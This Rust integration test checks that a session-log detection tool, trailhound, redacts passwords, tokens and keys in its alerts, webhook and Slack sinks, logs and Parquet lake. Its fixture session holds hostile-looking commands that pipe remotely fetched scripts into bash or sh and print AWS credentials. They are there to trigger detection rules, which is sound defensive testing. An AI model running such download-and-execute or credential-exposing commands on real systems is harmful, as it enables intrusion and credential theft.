//! Secrets end to end: a gateway session whose commands carry passwords,
//! keys and tokens of every redacted shape runs through the real binary
//! with the lake on, a JSON-lines alert output, a signed webhook and a Slack
//! sink posting to a server on 127.0.0.1, and debug logging. The commands
//! raise alerts (so the secrets had every chance to travel), and no secret
//! is found in stdout, the logs, the bodies the server received, any file
//! the run wrote, or any row of the lake read back by DuckDB. The sinks'
//! own secrets (the webhook's signing key, the Slack URL's path) are not in
//! the logs either.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::common;
use common::text;

/// The secrets the session carries, each unique so that a find is certain.
const AWS_SECRET_KEY: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRET2KEY";
const BEARER: &str = "Zq8sBearerSecretValue01";
const MYSQL_PASSWORD: &str = "MyS3cretPass3";
const PROMPT_PASSWORD: &str = "Hunter2Prompt4";
const GITHUB_TOKEN: &str = "ghp_5ecretGithubTokenValue5abcdefghij";
const CURL_PASSWORD: &str = "CurlUserPass6";
const SLACK_HOOK: &str = "SlackHookSecret8";

/// The sinks' own secrets.
const WEBHOOK_KEY: &str = "webhook-signing-key-not-for-logs";
const SLACK_URL_PATH: &str = "T0SINK/B0SINK/SlackSinkUrlSecret";

fn session_token() -> String {
    format!("IQoJb3JpZ2luX2VjEJr{}", "Ab1+/Cd2".repeat(12))
}

/// Every secret of the session (not the sinks' own).
fn secrets() -> Vec<String> {
    let mut all: Vec<String> = [
        AWS_SECRET_KEY,
        BEARER,
        MYSQL_PASSWORD,
        PROMPT_PASSWORD,
        CURL_PASSWORD,
        SLACK_HOOK,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // The token's body: its `ghp_` prefix is kept on purpose.
    all.push(GITHUB_TOKEN.trim_start_matches("ghp_").to_string());
    all.push(session_token());
    all
}

/// A gateway session in trailhound's JSON-lines format.
fn session() -> String {
    let line = |time: &str, kind: &str, body: serde_json::Value| {
        let mut record = serde_json::json!({
            "trailhound": "session/v1",
            "type": kind,
            "time": format!("2024-03-04T05:06:{time}Z"),
            "session_id": "g-secrets",
            "user": "carol",
            "source_ip": "192.0.2.10",
            "gateway": "bastion",
            "target": "db-1",
        });
        if let (Some(map), Some(more)) = (record.as_object_mut(), body.as_object()) {
            map.extend(more.clone());
        }
        record.to_string()
    };
    let command = |time: &str, c: String| line(time, "command", serde_json::json!({"command": c}));
    let token = session_token();
    [
        line("00", "start", serde_json::json!({})),
        command(
            "01",
            format!("curl -s -H 'Authorization: Bearer {BEARER}' https://203.0.113.7/x.sh | bash"),
        ),
        command(
            "02",
            format!("export AWS_SECRET_ACCESS_KEY={AWS_SECRET_KEY}; echo $AWS_SECRET_ACCESS_KEY"),
        ),
        command(
            "03",
            format!("printenv AWS_SESSION_TOKEN; aws configure import {token}"),
        ),
        command("04", format!("mysql -u root -p{MYSQL_PASSWORD} -e 'select 1'")),
        line(
            "05",
            "output",
            serde_json::json!({"data": "[sudo] password for carol: "}),
        ),
        line(
            "06",
            "input",
            serde_json::json!({"data": format!("{PROMPT_PASSWORD}\r")}),
        ),
        command(
            "07",
            format!("git clone https://{GITHUB_TOKEN}@github.com/acme/infra"),
        ),
        line(
            "08",
            "input",
            serde_json::json!({"data": format!("curl -u admin:{CURL_PASSWORD} http://10.0.0.5/run.sh | sh\r")}),
        ),
        command(
            "09",
            format!("curl -X POST https://hooks.slack.com/services/T0/B0/{SLACK_HOOK} -d @alert.json"),
        ),
        line("10", "end", serde_json::json!({})),
    ]
    .join("\n")
        + "\n"
}

/// A loopback server answering 200 to every request, keeping each request
/// whole (head and body) as text.
fn serve() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a loopback port");
    let port = listener.local_addr().expect("an address").port();
    let received = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&received);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let Ok(clone) = stream.try_clone() else {
                continue;
            };
            let mut reader = BufReader::new(clone);
            let mut head = String::new();
            let mut length = 0usize;
            loop {
                let mut l = String::new();
                if reader.read_line(&mut l).unwrap_or(0) == 0 || l.trim().is_empty() {
                    break;
                }
                if let Some((k, v)) = l.split_once(':')
                    && k.eq_ignore_ascii_case("content-length")
                {
                    length = v.trim().parse().unwrap_or(0);
                }
                head.push_str(&l);
            }
            let mut body = vec![0; length];
            let _ = reader.read_exact(&mut body);
            log.lock()
                .unwrap_or_else(|e| e.into_inner())
                .push(format!("{head}\n{}", String::from_utf8_lossy(&body)));
            let _ = stream
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    (port, received)
}

/// Every file under `root`, read as lossy text, with its path.
fn files(root: &Path) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path) {
                found.push((
                    path.display().to_string(),
                    String::from_utf8_lossy(&bytes).into_owned(),
                ));
            }
        }
    }
    found
}

#[test]
fn no_secret_typed_or_run_in_a_session_reaches_alerts_sinks_logs_or_the_lake() {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let (port, received) = serve();
    std::fs::write(dir.path().join("session.jsonl"), session()).expect("the session");
    std::fs::write(
        dir.path().join("trailhound.yaml"),
        format!(
            "notify:\n  dead_letters: notify-dl.jsonl\n  sinks:\n\
             \x20   - kind: webhook\n      name: soar\n      url: http://127.0.0.1:{port}/soar\n      secret: env:TRAILHOUND_TEST_WEBHOOK_KEY\n\
             \x20   - kind: slack\n      name: chat\n      url: env:TRAILHOUND_TEST_SLACK_URL\n"
        ),
    )
    .expect("the config");
    let mut command = Command::new(env!("CARGO_BIN_EXE_trailhound"));
    command
        .args([
            "detect",
            "session.jsonl",
            "--config",
            "trailhound.yaml",
            "--format",
            "json",
            "--lake",
            "lake",
            "--dead-letters",
            "dead-letters.jsonl",
        ])
        .current_dir(dir.path())
        .env_remove("TRAILHOUND_CONFIG")
        .env("TRAILHOUND_LOG", "debug")
        .env("NO_COLOR", "1")
        .env("TRAILHOUND_TEST_WEBHOOK_KEY", WEBHOOK_KEY)
        .env(
            "TRAILHOUND_TEST_SLACK_URL",
            format!("http://127.0.0.1:{port}/services/{SLACK_URL_PATH}"),
        );
    let out = common::run_within(&mut command, common::RUN_LIMIT);
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "detect failed:\n{stderr}");

    // The commands raised alerts that quote them: the secrets were carried
    // as far as anything is.
    let alerts: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let rules: Vec<&str> = alerts
        .iter()
        .filter_map(|a| a.get("rule_id")?.as_str())
        .collect();
    for rule in [
        "session-download-and-execute",
        "session-cloud-credentials-exported",
    ] {
        assert!(
            rules.contains(&rule),
            "{rule} did not fire: {rules:?}\n{stderr}"
        );
    }
    assert!(
        stdout.contains("[redacted]"),
        "no alert shows a redaction:\n{stdout}"
    );
    let posted = received.lock().unwrap_or_else(|e| e.into_inner()).clone();
    assert!(
        posted.iter().any(|r| r.starts_with("POST /soar"))
            && posted.iter().any(|r| r.starts_with("POST /services/")),
        "both sinks posted: {posted:?}"
    );

    let mut places: Vec<(String, String)> = vec![
        ("stdout".into(), stdout.clone()),
        ("the log".into(), stderr.clone()),
    ];
    places.extend(
        posted
            .iter()
            .enumerate()
            .map(|(i, r)| (format!("request {i} to the sinks"), r.clone())),
    );
    places.extend(
        files(dir.path())
            .into_iter()
            .filter(|(path, _)| !path.ends_with("session.jsonl")),
    );

    // The lake's rows, read by an independent engine (Parquet pages are
    // compressed, so the raw bytes above prove nothing about them).
    let lake = dir.path().join("lake");
    match std::env::var_os("TRAILHOUND_PYTHON") {
        Some(python) => {
            let script = format!(
                "import duckdb, glob\n\
                 files = sorted(glob.glob('{}/**/*.parquet', recursive=True))\n\
                 assert files, 'no lake file'\n\
                 for f in files:\n    for row in duckdb.sql(f\"select * from read_parquet('{{f}}')\").fetchall():\n        print(row)\n",
                lake.display()
            );
            let read = common::run_within(
                Command::new(&python).args(["-c", &script]),
                common::RUN_LIMIT,
            );
            assert!(read.status.success(), "DuckDB: {}", text(&read.stderr));
            let rows = text(&read.stdout);
            assert!(
                rows.contains("github.com/acme/infra") && rows.contains("[redacted]"),
                "the lake holds the session's commands, redacted:\n{rows}"
            );
            places.push(("the lake (DuckDB)".into(), rows));
        }
        None => eprintln!(
            "SKIPPED the lake read-back: TRAILHOUND_PYTHON is unset (./scripts/test sets it to a Python with DuckDB)"
        ),
    }

    for secret in secrets() {
        for (place, body) in &places {
            assert!(
                !body.contains(&secret),
                "the secret {secret:?} reached {place}"
            );
        }
    }
    for own in [WEBHOOK_KEY, SLACK_URL_PATH] {
        assert!(
            !stderr.contains(own),
            "the sink secret {own:?} is in the log"
        );
    }
    eprintln!(
        "{} alerts, {} requests to the sinks, {} places searched for {} secrets",
        alerts.len(),
        posted.len(),
        places.len(),
        secrets().len()
    );
}
